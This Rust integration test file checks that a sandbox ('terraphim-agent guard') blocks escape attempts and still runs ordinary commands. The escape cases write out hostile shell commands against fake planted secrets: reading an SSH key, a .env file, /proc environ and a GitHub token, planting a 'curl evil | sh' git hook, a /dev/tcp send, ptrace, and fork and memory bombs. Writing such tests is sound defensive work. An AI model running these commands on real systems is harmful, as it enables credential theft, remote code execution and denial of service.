//! The sandbox escape suite: every escape runs through the real binary, with and without
//! bubblewrap, in a temporary HOME, and passes only if the escape fails and the report names it
//! with the right violation kind. Plus the positive side: ordinary commands still work.

use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

use serde_json::Value;

const SECRET: &str = "SECRET-KEY-MATERIAL-5f1c";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// Landlock, seccomp and rlimits only.
    Native,
    /// The namespaces as well, made by the supervisor itself (the default where available).
    Bwrap,
    /// The namespaces through bubblewrap and the helper (forced).
    Bubblewrap,
}

/// A temporary world: HOME with a planted secret, XDG dirs with small test profiles, TMPDIR, a
/// git project with a symlink to the secret, and a tiny crate.
struct World {
    tmp: tempfile::TempDir,
}

fn real_home() -> PathBuf {
    PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()))
}

fn write(path: &Path, text: &str) {
    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
    fs_err::write(path, text).unwrap();
}

impl World {
    fn new() -> Self {
        // Under /tmp on purpose: the project then lives beneath the run's private /tmp.
        let tmp = tempfile::tempdir_in("/tmp").unwrap();
        let w = Self { tmp };
        for d in ["home", "config", "data", "tmp", "project", "crate"] {
            fs_err::create_dir_all(w.root().join(d)).unwrap();
        }
        write(&w.home().join(".ssh/id_ed25519"), SECRET);
        write(&w.project().join("README"), "hello from the project\n");
        write(&w.project().join(".env"), &format!("API={SECRET}\n"));
        std::os::unix::fs::symlink(w.home().join(".ssh/id_ed25519"), w.project().join("leak"))
            .unwrap();
        let git = Command::new("git")
            .args(["init", "-q"])
            .current_dir(w.project())
            .status()
            .unwrap();
        assert!(git.success());
        let profiles = w.root().join("config/terraphim/guard/profiles");
        let readonly = include_str!("../../../../kg/profiles/readonly.toml");
        let tight = readonly
            .replace("max_processes = 64", "max_processes = 16")
            .replace("memory_mb = 2048", "memory_mb = 64")
            .replace("cpu_seconds = 60", "cpu_seconds = 1")
            .replace("wall_seconds = 120", "wall_seconds = 3")
            .replace("output_mb = 16", "output_mb = 1");
        write(&profiles.join("tight.toml"), &tight);
        // CPU time lags the wall clock on a loaded machine: give the CPU limit room to fire first.
        write(
            &profiles.join("spin.toml"),
            &tight.replace("wall_seconds = 3", "wall_seconds = 10"),
        );
        write(
            &profiles.join("lo.toml"),
            &tight.replace("network = \"deny\"", "network = \"loopback\""),
        );
        write(
            &w.root().join("crate/Cargo.toml"),
            "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        );
        write(
            &w.root().join("crate/src/main.rs"),
            "fn main() { println!(\"tiny built\"); }\n",
        );
        w
    }

    fn root(&self) -> &Path {
        self.tmp.path()
    }
    fn home(&self) -> PathBuf {
        self.root().join("home")
    }
    fn project(&self) -> PathBuf {
        self.root().join("project")
    }

    fn command(&self, mode: Mode, cwd: &Path, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"));
        let cargo_home = std::env::var("CARGO_HOME")
            .unwrap_or_else(|_| real_home().join(".cargo").display().to_string());
        let rustup_home = std::env::var("RUSTUP_HOME")
            .unwrap_or_else(|_| real_home().join(".rustup").display().to_string());
        cmd.args(args)
            .current_dir(cwd)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", self.home())
            .env("XDG_CONFIG_HOME", self.root().join("config"))
            .env("XDG_DATA_HOME", self.root().join("data"))
            .env("TMPDIR", self.root().join("tmp"))
            .env("CARGO_HOME", cargo_home)
            .env("RUSTUP_HOME", rustup_home)
            .env("CARGO_NET_OFFLINE", "true")
            .env("GITHUB_TOKEN", "ghp-token-7d2e")
            .env(
                "TERRAPHIM_GUARD_NO_BWRAP",
                if mode == Mode::Native { "1" } else { "0" },
            )
            .env(
                "TERRAPHIM_GUARD_FORCE_BWRAP",
                if mode == Mode::Bubblewrap { "1" } else { "0" },
            )
            .stdin(Stdio::null());
        if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
            cmd.env("RUSTUP_TOOLCHAIN", t);
        }
        cmd
    }

    fn exec(&self, mode: Mode, profile: &str, cwd: &Path, shell: &str) -> Outcome {
        static N: AtomicU32 = AtomicU32::new(0);
        let report = self
            .root()
            .join(format!("report-{}.json", N.fetch_add(1, Ordering::Relaxed)));
        let r = report.display().to_string();
        let out = self
            .command(
                mode,
                cwd,
                &[
                    "guard",
                    "exec",
                    "--profile",
                    profile,
                    "--report",
                    &r,
                    "--",
                    shell,
                ],
            )
            .output()
            .unwrap();
        let report = fs_err::read_to_string(&report)
            .ok()
            .map(|t| serde_json::from_str(&t).unwrap());
        Outcome {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            report,
        }
    }
}

#[derive(Debug)]
struct Outcome {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    report: Option<Value>,
}

impl Outcome {
    fn kinds(&self) -> Vec<String> {
        let Some(r) = &self.report else {
            return Vec::new();
        };
        r["violations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v["kind"].as_str().unwrap().to_owned())
            .collect()
    }
}

/// What the machine offers, asked from the binary itself.
fn host() -> Value {
    let out = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"))
        .args(["guard", "profiles", "--json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Whether `mode` can run here; prints `skipping: ...` (or fails under TERRAPHIM_GUARD_NO_SKIP=1).
fn available(mode: Mode) -> bool {
    let h = host();
    let why = if h["host"]["landlock_abi"].as_u64().unwrap_or(0) < 2 {
        Some("Landlock is not available")
    } else if !h["host"]["seccomp_user_notif"].as_bool().unwrap_or(false) {
        Some("seccomp user notification is not available")
    } else if mode == Mode::Bwrap
        && !h["host"]["namespaces"].as_bool().unwrap_or(false)
        && !h["bwrap_works"].as_bool().unwrap_or(false)
    {
        Some("namespaces cannot be made here")
    } else if mode == Mode::Bubblewrap && !h["bwrap_works"].as_bool().unwrap_or(false) {
        Some("bubblewrap is not installed or does not work here")
    } else {
        None
    };
    match why {
        None => true,
        Some(why) if std::env::var("TERRAPHIM_GUARD_NO_SKIP").as_deref() == Ok("1") => {
            panic!("{why}, and TERRAPHIM_GUARD_NO_SKIP=1 forbids skipping")
        }
        Some(why) => {
            eprintln!("skipping: {why}");
            false
        }
    }
}

/// The exit code a contained case must have.
#[derive(Debug, Clone, Copy)]
enum Code {
    /// Not 0: the attempt failed.
    Fail,
    /// Exactly this.
    Is(i32),
}

/// How a case must end.
enum Expect {
    /// The escape failed and the report names this violation kind.
    Contained { kind: &'static str, code: Code },
    /// The command worked and printed this.
    Works { stdout: &'static str },
    /// The sandbox refused to run (exit 125) with this message.
    Refused { stderr: &'static str },
}

/// A check on the world after a run.
type AfterCheck = dyn Fn(&World, &Outcome) -> Result<(), String> + Sync;

struct Case {
    name: &'static str,
    profile: &'static str,
    /// `{root}` `{port}` `{marker}` are replaced.
    command: String,
    cwd: &'static str,
    expect: Expect,
    /// A check on the world after the run (the escape left no trace).
    after: Option<Box<AfterCheck>>,
}

fn case(name: &'static str, profile: &'static str, command: &str, expect: Expect) -> Case {
    Case {
        name,
        profile,
        command: command.to_owned(),
        cwd: "project",
        expect,
        after: None,
    }
}

impl Case {
    fn after(
        mut self,
        f: impl Fn(&World, &Outcome) -> Result<(), String> + Sync + 'static,
    ) -> Self {
        self.after = Some(Box::new(f));
        self
    }
    fn in_dir(mut self, dir: &'static str) -> Self {
        self.cwd = dir;
        self
    }
}

fn no_secret(_: &World, o: &Outcome) -> Result<(), String> {
    if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) {
        Err("the secret leaked".into())
    } else {
        Ok(())
    }
}

fn no_process_with(marker: String) -> impl Fn(&World, &Outcome) -> Result<(), String> + Sync {
    move |_, _| {
        let out = Command::new("pgrep")
            .args(["-f", &marker])
            .output()
            .map_err(|e| e.to_string())?;
        let pids = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        if pids.is_empty() {
            Ok(())
        } else {
            Err(format!("processes outlived the run: {pids}"))
        }
    }
}

#[track_caller]
fn check(world: &World, mode: Mode, case: &Case) -> Result<(), String> {
    let cwd = world.root().join(case.cwd);
    let o = world.exec(mode, case.profile, &cwd, &case.command);
    let ctx = || format!("{} [{mode:?}]: {o:#?}", case.name);
    match &case.expect {
        Expect::Contained { kind, code } => {
            let Some(report) = &o.report else {
                return Err(format!("no report: {}", ctx()));
            };
            if !o.kinds().iter().any(|k| k == kind) {
                return Err(format!("no `{kind}` violation: {}", ctx()));
            }
            let want_backend = match mode {
                Mode::Bwrap => "native+ns",
                Mode::Bubblewrap => "native+bwrap",
                Mode::Native => "native",
            };
            if report["backend"] != want_backend {
                return Err(format!("backend is not {want_backend}: {}", ctx()));
            }
            for v in report["violations"].as_array().unwrap() {
                let ev = v["evidence"].as_str().unwrap_or("");
                let sourced = [
                    "seccomp: ",
                    "supervisor: ",
                    "helper: ",
                    "signal ",
                    "stderr heuristic: ",
                    "command text: ",
                    "exit status ",
                ];
                if !sourced.iter().any(|s| ev.starts_with(s)) {
                    return Err(format!("evidence without a source `{ev}`: {}", ctx()));
                }
            }
            match code {
                Code::Is(c) if o.code != Some(*c) => {
                    return Err(format!("exit code is not {c}: {}", ctx()));
                }
                Code::Fail if o.code == Some(0) => return Err(format!("exit code 0: {}", ctx())),
                Code::Is(_) | Code::Fail => {}
            }
        }
        Expect::Works { stdout } => {
            if o.code != Some(0) || !o.stdout.contains(stdout) {
                return Err(format!("did not work: {}", ctx()));
            }
            let kinds = o.kinds();
            if !kinds.is_empty() {
                return Err(format!("violations {kinds:?} on a clean run: {}", ctx()));
            }
        }
        Expect::Refused { stderr } => {
            if o.code != Some(125) || !o.stderr.contains(stderr) || o.report.is_some() {
                return Err(format!("not refused: {}", ctx()));
            }
        }
    }
    if let Some(after) = &case.after {
        after(world, &o).map_err(|e| format!("{e}: {}", ctx()))?;
    }
    Ok(())
}

/// Run every case of a table at once (the slow ones wait on wall-clock limits) and report all
/// failures together.
fn run_table(mode: Mode, cases: Vec<Case>) {
    if !available(mode) {
        return;
    }
    let world = World::new();
    let failures: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = cases
            .iter()
            .map(|c| s.spawn(|| check(&world, mode, c)))
            .collect();
        handles
            .into_iter()
            .filter_map(|h| h.join().unwrap().err())
            .collect()
    });
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

fn escapes(mode: Mode) -> Vec<Case> {
    use Expect::*;
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let tag = format!(
        "{}{}",
        std::process::id(),
        match mode {
            Mode::Bwrap => 1,
            Mode::Native => 2,
            Mode::Bubblewrap => 3,
        }
    );
    let tcp = std::sync::Mutex::new(tcp);
    let tag2 = tag.clone();
    let udp = std::sync::Mutex::new(udp);
    let hooks = match mode {
        Mode::Bwrap | Mode::Bubblewrap => case(
            "write .git/hooks under build",
            "build",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            Contained {
                kind: "fs-write",
                code: Code::Fail,
            },
        )
        .after(|w, _| {
            if w.project().join(".git/hooks/pre-commit").exists() {
                Err("hook written".into())
            } else {
                Ok(())
            }
        }),
        Mode::Native => case(
            "write .git/hooks under build",
            "build",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            Refused {
                stderr: "inside a writable root",
            },
        ),
    };
    let loopback = match mode {
        Mode::Bwrap | Mode::Bubblewrap => case(
            "loopback profile: own loopback works, the host's is not there",
            "lo",
            &format!(
                "/usr/bin/python3 -c 'import socket\ns = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen()\nsocket.create_connection(s.getsockname()); print(\"self ok\")\ntry:\n    socket.create_connection((\"127.0.0.1\", {tcp_port}), timeout=2); print(\"host reached\")\nexcept OSError:\n    print(\"host refused\")'"
            ),
            Works {
                stdout: "self ok\nhost refused",
            },
        ),
        Mode::Native => case(
            "loopback profile without bubblewrap",
            "lo",
            "true",
            Refused { stderr: "loopback" },
        ),
    };
    vec![
        loopback,
        case("read the parent's environment through /proc", "readonly", "cat /proc/$PPID/environ", Contained { kind: "ptrace", code: Code::Fail })
            .after(|_, o| if o.stdout.contains("ghp-token-7d2e") { Err("the token leaked".into()) } else { Ok(()) }),
        case("read the planted secret", "readonly", "cat ~/.ssh/id_ed25519", Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("read the secret through a project symlink", "readonly", "cat leak", Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("read a hidden .env in the project", "readonly", "cat .env", Expect::Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("write outside project and TMPDIR", "readonly", &format!("touch /var/tmp/escape-{tag}"), Contained { kind: "fs-write", code: Code::Fail })
            .after(move |_, _| {
                let p = PathBuf::from(format!("/var/tmp/escape-{tag2}"));
                if p.exists() {
                    let _ = fs_err::remove_file(&p);
                    Err("file written outside".into())
                } else {
                    Ok(())
                }
            }),
        case("write into the read-only project", "readonly", "echo pwned > README", Contained { kind: "fs-write", code: Code::Fail }).after(|w, _| {
            let text = fs_err::read_to_string(w.project().join("README")).unwrap();
            if text.contains("pwned") { Err("README overwritten".into()) } else { Ok(()) }
        }),
        hooks,
        case("TCP connect to a loopback listener", "readonly", &format!("echo hi > /dev/tcp/127.0.0.1/{tcp_port}"), Contained { kind: "network", code: Code::Fail })
            .after(move |_, _| match tcp.lock().unwrap().accept() {
                Ok(_) => Err("the listener got a connection".into()),
                Err(_) => Ok(()),
            }),
        case(
            "UDP send",
            "readonly",
            &format!("/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", {udp_port}))'"),
            Contained { kind: "network", code: Code::Fail },
        )
        .after(move |_, _| {
            let mut buf = [0u8; 16];
            match udp.lock().unwrap().recv(&mut buf) {
                Ok(_) => Err("the UDP datagram arrived".into()),
                Err(_) => Ok(()),
            }
        }),
        case("read an env secret", "readonly", "echo \"token=$GITHUB_TOKEN\"", Contained { kind: "env", code: Code::Is(0) }).after(|_, o| {
            if o.stdout.contains("ghp-token-7d2e") { Err("the token leaked".into()) } else { Ok(()) }
        }),
        case("ptrace the parent", "readonly", "/usr/bin/python3 -c 'import ctypes, os, sys; l = ctypes.CDLL(None, use_errno=True); sys.exit(0 if l.ptrace(16, os.getppid(), 0, 0) == 0 else 1)'", Contained { kind: "ptrace", code: Code::Fail }),
        case("fork bomb", "tight", &format!("bomb{tag}() {{ bomb{tag} | bomb{tag}; }}; bomb{tag}"), Contained { kind: "spawn", code: Code::Is(124) })
            .after(no_process_with(format!("bomb{tag}"))),
        case("memory bomb", "tight", "/usr/bin/python3 -c 'x = bytearray(512 * 1024 * 1024)'", Contained { kind: "memory", code: Code::Fail }),
        case("CPU spin", "spin", "while :; do :; done", Contained { kind: "cpu", code: Code::Fail }),
        case("sleep past the wall limit", "tight", &format!("sleep 3{tag}"), Contained { kind: "wall-time", code: Code::Is(124) })
            .after(no_process_with(format!("sleep 3{tag}"))),
        case(
            "a setsid/nohup daemon outliving the run",
            "tight",
            &format!("setsid nohup sleep 4{tag} >/dev/null 2>&1 & echo started"),
            Contained { kind: "spawn", code: Code::Is(0) },
        )
        .after(no_process_with(format!("sleep 4{tag}"))),
        case("output flood", "tight", "yes flood", Contained { kind: "output", code: Code::Is(123) }).after(|_, o| {
            if o.stdout.len() > 1024 * 1024 { Err(format!("{} bytes passed the cap", o.stdout.len())) } else { Ok(()) }
        }),
        case("strict: no spawning", "strict", "ls | wc -l", Contained { kind: "spawn", code: Code::Fail }),
    ]
}

fn positives() -> Vec<Case> {
    use Expect::*;
    vec![
        case("ls", "readonly", "ls", Works { stdout: "README" }),
        case(
            "cat a project file",
            "readonly",
            "cat README",
            Works {
                stdout: "hello from the project",
            },
        ),
        case(
            "cargo --version",
            "readonly",
            "cargo --version",
            Works { stdout: "cargo " },
        ),
        case(
            "a pipeline",
            "readonly",
            "cat README | tr a-z A-Z | grep -c HELLO",
            Works { stdout: "1" },
        ),
        case(
            "git status",
            "readonly",
            "git status --short --branch",
            Works { stdout: "## " },
        ),
        case(
            "temporary files",
            "readonly",
            "echo scratch > \"$TMPDIR/scratch-probe.txt\" && cat \"$TMPDIR/scratch-probe.txt\"",
            Works { stdout: "scratch" },
        ),
        case(
            "TMPDIR cannot collide with a project under /tmp",
            "readonly",
            r#"case "$PWD" in /tmp/*) ;; *) echo "project not under /tmp"; exit 1 ;; esac
first=${PWD#/tmp/}; first=${first%%/*}
mkdir -p "$TMPDIR/$first/project" && echo tmp-ok > "$TMPDIR/$first/project/README" && cat "$TMPDIR/$first/project/README""#,
            Works { stdout: "tmp-ok" },
        )
        .after(|w, _| {
            let text = fs_err::read_to_string(w.project().join("README")).map_err(|e| e.to_string())?;
            if text == "hello from the project\n" {
                Ok(())
            } else {
                Err(format!("the project's README changed: {text:?}"))
            }
        }),
        case(
            "strict: one program",
            "strict",
            "cat README",
            Works { stdout: "hello" },
        ),
        case(
            "cargo build under build",
            "build",
            "cargo build -q --offline && ./target/debug/tiny",
            Works {
                stdout: "tiny built",
            },
        )
        .in_dir("crate"),
    ]
}

#[test]
fn escapes_are_contained_natively() {
    run_table(Mode::Native, escapes(Mode::Native));
}

#[test]
fn escapes_are_contained_with_bubblewrap() {
    run_table(Mode::Bwrap, escapes(Mode::Bwrap));
}

#[test]
fn escapes_are_contained_with_bubblewrap_forced() {
    run_table(Mode::Bubblewrap, escapes(Mode::Bubblewrap));
}

#[test]
fn ordinary_commands_work_with_bubblewrap_forced() {
    run_table(Mode::Bubblewrap, positives());
}

#[test]
fn ordinary_commands_work_natively() {
    run_table(Mode::Native, positives());
}

#[test]
fn ordinary_commands_work_with_bubblewrap() {
    run_table(Mode::Bwrap, positives());
}

#[test]
fn unknown_profile_is_a_usage_error() {
    let world = World::new();
    let o = world.exec(Mode::Native, "nope", &world.project(), "true");
    assert_eq!(o.code, Some(2), "{o:#?}");
    assert!(
        o.stderr.contains(
            "unknown sandbox profile `nope` (known: build, lo, readonly, spin, strict, tight, workspace)"
        ),
        "{o:#?}"
    );
}

#[test]
fn json_report_is_the_last_stderr_line_and_stdout_streams() {
    let world = World::new();
    let out = world
        .command(
            Mode::Native,
            &world.project(),
            &[
                "guard",
                "exec",
                "--json",
                "--id",
                "t-1",
                "--",
                "echo out; echo err >&2; exit 3",
            ],
        )
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "out\n");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let last = stderr.lines().last().unwrap();
    let report: Value = serde_json::from_str(last).unwrap();
    assert_eq!(
        (
            report["schema"].as_u64(),
            report["id"].as_str(),
            report["exit_code"].as_i64()
        ),
        (Some(1), Some("t-1"), Some(3))
    );
    assert_eq!(report["profile"], "readonly");
    assert!(stderr.starts_with("err\n"), "{stderr}");
    let mut removed = String::new();
    for name in report["env_removed"].as_array().unwrap() {
        removed.push_str(name.as_str().unwrap());
        removed.push(' ');
    }
    assert!(removed.contains("GITHUB_TOKEN"), "{removed}");
}
